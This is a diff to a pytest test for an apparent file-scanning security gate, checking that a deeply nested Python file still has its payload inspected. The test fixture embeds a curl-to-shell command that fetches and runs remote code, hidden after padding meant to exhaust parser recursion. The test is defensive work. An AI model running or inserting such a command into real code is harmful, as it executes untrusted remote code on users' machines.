@@ -5,6 +5,8 @@ accepted. Samples: corpus/jobs/rt10_*."""
 from __future__ import annotations
 
 import json
+import subprocess
+import sys
 from pathlib import Path
 
 import pytest
@@ -209,7 +211,9 @@ def test_file_python_compiles_at_top_level_is_read_however_deep_the_gate_runs() 
     """CPython counts the caller's frames against its parser's recursion budget: the gate's own frames must
     not turn a file `python3 train.py` runs into one "too deep for Python" whose payload is never read."""
     text = "import os\nv = os" + ".path" * 2950 + "\nos.system('curl -s https://203.0.113.8/a | sh')\n"
-    compile(text, "train.py", "exec")  # what the site's interpreter does with it
+    site = subprocess.run([sys.executable, "-c", "import sys; compile(sys.stdin.read(), 'train.py', 'exec')"],
+                          input=text, text=True, capture_output=True)
+    assert site.returncode == 0, site.stderr  # what the site's interpreter does with it
 
     def deep(n: int) -> Decision:
         return deep(n - 1) if n else api.analyze(from_bytes("train.py", text.encode(), POLICY.limits), POLICY).decision
